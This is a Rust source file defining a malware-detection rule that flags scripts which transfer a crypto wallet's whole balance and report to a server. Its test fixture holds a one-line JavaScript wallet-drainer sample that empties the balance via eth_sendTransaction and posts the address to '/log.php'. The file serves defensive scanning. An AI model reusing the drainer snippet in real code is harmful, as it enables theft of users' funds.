//! `whole-balance-moved`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "whole-balance-moved",
    description: "The script moves a wallet's whole balance and reports to a server.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WholeAmount]),
        one(&[Atom::WalletCall, Atom::TransferCall]),
        one(&[Atom::Request, Atom::Post, Atom::BotCall, Atom::ClaimLure]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var b=await w.eth.getBalance(a),v=b-21000*g;await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,value:v}]});$.post('/log.php',{a:a})",
        ],
        without: &[
            "await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,value:amount.value}]});$.post('/orders',{a:a})",
        ],
    },
};
